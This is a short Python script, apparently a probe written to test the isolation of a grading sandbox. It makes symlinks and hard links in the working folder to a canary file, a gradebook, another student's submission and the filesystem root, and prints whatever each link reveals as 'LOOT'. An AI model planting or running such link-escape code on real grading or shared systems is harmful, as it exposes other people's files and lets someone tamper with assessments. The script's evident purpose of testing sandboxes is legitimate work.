"""Leave links in the working folder, for whoever copies it afterwards, and read through them.

"""
import os

for make in (os.symlink, os.link):
    for number, target in enumerate((CANARY_FILE, GRADEBOOK, OTHER_SUBMISSION, "/", "/proc/self/root")):
        name = f"{make.__name__}-{number}"
        try:
            make(target, name)
            print("LOOT:", open(name, "rb").read(100) if os.path.isfile(name) else os.listdir(name))
        except OSError:
            pass
